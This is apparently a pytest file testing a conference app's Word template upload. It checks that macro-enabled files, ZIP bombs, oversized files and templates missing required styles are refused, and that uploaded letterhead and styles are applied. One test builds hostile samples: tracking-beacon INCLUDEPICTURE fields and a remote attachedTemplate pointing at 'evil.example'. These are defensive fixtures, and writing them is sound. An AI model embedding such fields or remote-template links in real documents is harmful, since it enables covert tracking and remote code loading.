"""Template upload: what is refused (with a message naming the problem), what is stored, and
that generation uses the uploaded template's styles and letterhead."""

from __future__ import annotations

import io
import zipfile

import pytest
import sqlalchemy as sa
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Pt

from alliance_conf.audit.models import AuditEvent
from alliance_conf.core.errors import ValidationFailed
from alliance_conf.extensions import db
from plugins.documents import builder, operations
from plugins.documents.models import DocumentTemplate
from plugins.documents.tests.helpers import open_docx


def custom_template(*, drop=(), letterhead="MINISTRY OF {city}", font="Arial") -> bytes:
    document = Document(io.BytesIO(builder.default_template_bytes()))
    for name in drop:
        element = document.styles[name].element
        element.getparent().remove(element)
    document.styles["Normal"].font.name = font
    document.styles["Normal"].font.size = Pt(13)
    for paragraph in document.paragraphs:
        if paragraph.style.name == "Letterhead":
            paragraph.text = letterhead
    document.add_paragraph("Body text that generation must clear.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, *, replace=None, add=None) -> bytes:
    """Copy a .docx, replacing some parts' bytes and adding others."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def content_types(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()


def upload(conference, name, data, actor=None):
    return operations.upload_template(conference, name, data, actor=actor)


def refused(conference, name, data) -> str:
    with pytest.raises(ValidationFailed) as caught:
        upload(conference, name, data)
    db.session.rollback()
    assert caught.value.fields["file"] == caught.value.message
    assert db.session.scalar(sa.select(sa.func.count(DocumentTemplate.id))) == 0
    return caught.value.message


def test_bad_templates_are_refused_with_a_clear_message(app, conference):
    default = builder.default_template_bytes()
    assert "not a Word .docx file (it is not a ZIP package)" in refused(
        conference, "notes.docx", b"%PDF-1.4 not a zip"
    )
    bare = io.BytesIO()
    with zipfile.ZipFile(bare, "w") as archive:
        archive.writestr("hello.txt", "hi")
    assert "no [Content_Types].xml" in refused(conference, "hello.docx", bare.getvalue())
    xlsx_like = rezip(
        default,
        replace={
            "[Content_Types].xml": content_types(default).replace(
                "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"
            )
        },
    )
    assert "no Word document part" in refused(conference, "sheet.docx", xlsx_like)
    docm = rezip(
        default,
        replace={
            "[Content_Types].xml": content_types(default).replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    assert "macro-enabled" in refused(conference, "renamed.docx", docm)
    with_vba = rezip(default, add={"word/vbaProject.bin": b"\x00" * 64})
    assert "contains macros (vbaProject.bin)" in refused(conference, "vba.docx", with_vba)
    assert "macro-enabled" in refused(conference, "letter.docm", default)
    no_styles = custom_template(drop=("Commitment", "Letterhead"))
    message = refused(conference, "plain.docx", no_styles)
    assert "lacks the required styles “Commitment”, “Letterhead”" in message
    assert "Title" in refused(conference, "x.docx", custom_template(drop=("Title",)))


def test_size_and_zip_bomb_limits(app, conference):
    default = builder.default_template_bytes()
    app.config["DOCUMENTS_TEMPLATE_MAX_BYTES"] = 2_000
    try:
        message = refused(conference, "big.docx", default)
    finally:
        app.config["DOCUMENTS_TEMPLATE_MAX_BYTES"] = 5 * 1024 * 1024
    assert message == f"big.docx is {round(len(default) / 1000)} KB; templates are limited to 2 KB."
    bomb = rezip(default, add={"word/media/zeros.bin": b"\x00" * 20_000_000})
    assert len(bomb) < 5 * 1024 * 1024
    assert "looks like a ZIP bomb" in refused(conference, "bomb.docx", bomb)
    app.config["DOCUMENTS_TEMPLATE_MAX_UNCOMPRESSED_BYTES"] = 1_000_000
    try:
        big = rezip(default, add={"word/media/noise.bin": bytes(range(256)) * 8000})
        assert "expands to" in refused(conference, "large.docx", big)
    finally:
        app.config["DOCUMENTS_TEMPLATE_MAX_UNCOMPRESSED_BYTES"] = 50 * 1024 * 1024


def test_generation_uses_the_uploaded_template(app, conference, make_declaration, make_user):
    staff = make_user("staff")
    declaration = make_declaration()
    stored = upload(conference, "ministry.docx", custom_template(), actor=staff)
    db.session.commit()
    assert (stored.filename, stored.size, stored.uploaded_by_id) == (
        "ministry.docx",
        len(custom_template()),
        staff.id,
    )
    assert stored.uploaded_at is not None and len(stored.sha256) == 64
    event = db.session.scalar(
        sa.select(AuditEvent).where(AuditEvent.action == "documents.template_uploaded")
    )
    assert event.actor_id == staff.id and event.data["filename"] == "ministry.docx"

    document = open_docx(operations.draft_revision(declaration, 1))
    assert document.styles["Normal"].font.name == "Arial"
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "MINISTRY OF Brussels"  # the letterhead is kept, placeholders filled
    assert document.paragraphs[0].style.name == "Letterhead"
    assert "Body text that generation must clear." not in texts

    operations.remove_template(conference, actor=staff)
    db.session.commit()
    document = open_docx(operations.draft_revision(declaration, 1))
    assert document.styles["Normal"].font.name == "Times New Roman"


def test_a_template_without_numbering_part_still_gets_real_lists(app, conference, make_declaration):
    data = custom_template()
    archive = zipfile.ZipFile(io.BytesIO(data))
    rels = archive.read("word/_rels/document.xml.rels").decode()
    import re

    rels = re.sub(r"<Relationship [^>]*numbering[^>]*/>", "", rels)
    types = content_types(data).replace(
        '<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/>',
        "",
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in archive.infolist():
            if info.filename == "word/numbering.xml":
                continue
            content = archive.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                content = rels
            elif info.filename == "[Content_Types].xml":
                content = types
            target.writestr(info.filename, content)
    upload(conference, "no-lists.docx", out.getvalue())
    db.session.commit()
    document = open_docx(operations.draft_revision(make_declaration(), 1))
    numbered = [
        p for p in document.paragraphs if p._p.pPr is not None and p._p.pPr.numPr is not None
    ]
    assert len(numbered) == 6
    assert (
        document.part.numbering_part.element.find(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}abstractNum"
        )
        is not None
    )


def test_required_style_check_matches_the_shipped_template():
    document = Document(io.BytesIO(builder.default_template_bytes()))
    names = {style.name for style in document.styles}
    assert set(builder.REQUIRED_STYLES) <= names
    assert document.styles["Commitment"].type == WD_STYLE_TYPE.PARAGRAPH
    section = document.sections[0]
    assert round(section.page_width.mm) == 210 and round(section.left_margin.mm) == 25


def test_a_template_with_only_the_required_styles_works(app, conference, make_declaration):
    from docx.oxml.ns import qn

    sparse = custom_template(drop=("Table Grid", "Subtitle", "Header", "Footer"))
    upload(conference, "sparse.docx", sparse)
    db.session.commit()
    declaration = make_declaration(freeze=True)
    document = open_docx(operations.final_declaration(declaration))
    table = document.tables[0]._tbl
    assert table.tblPr.find(qn("w:tblBorders")) is not None
    assert "Ministerial conference on safer children" in "\n".join(
        p.text for p in document.sections[0].header.paragraphs
    )


def _with_letterhead_xml(data: bytes, xml: str) -> bytes:
    """Put raw WordprocessingML into the template's body, after the letterhead paragraph."""
    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    return rezip(data, replace={"word/document.xml": body.replace("</w:p>", "</w:p>" + xml, 1)})


def _with_relationship(data: bytes, part_rels: str, rel: str) -> bytes:
    rels = zipfile.ZipFile(io.BytesIO(data)).read(part_rels).decode()
    return rezip(
        data, replace={part_rels: rels.replace("</Relationships>", rel + "</Relationships>")}
    )


def test_templates_that_fetch_from_the_network_are_refused(app, conference):
    """Tracking beacons: a field or a linked image fetched whenever the document is opened."""
    default = custom_template()
    beacon = "http://tracker.example/pixel.png"
    run = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">PICTURE "{beacon}" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    message = refused(conference, "beacon.docx", _with_letterhead_xml(default, run))
    assert "INCLUDEPICTURE" in message and "network" in message
    simple = f'<w:p><w:fldSimple w:instr=" includetext &quot;{beacon}&quot; "/></w:p>'
    assert "INCLUDETEXT" in refused(conference, "text.docx", _with_letterhead_xml(default, simple))
    linked_image = (
        '<Relationship Id="rId99" TargetMode="External" Target="' + beacon + '" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    )
    message = refused(
        conference,
        "linked.docx",
        _with_relationship(default, "word/_rels/document.xml.rels", linked_image),
    )
    assert "tracker.example" in message and "image" in message
    remote_template = (
        '<Relationship Id="rId98" TargetMode="External" Target="https://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/>'
    )
    assert "evil.example" in refused(
        conference,
        "remote.docx",
        _with_relationship(default, "word/_rels/document.xml.rels", remote_template),
    )
    assert db.session.scalar(sa.select(sa.func.count()).select_from(DocumentTemplate)) == 0
    # A plain hyperlink (followed only when clicked) is not a beacon.
    link = (
        '<Relationship Id="rId97" TargetMode="External" Target="https://alliance.example/" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    )
    upload(
        conference, "site.docx", _with_relationship(default, "word/_rels/document.xml.rels", link)
    )
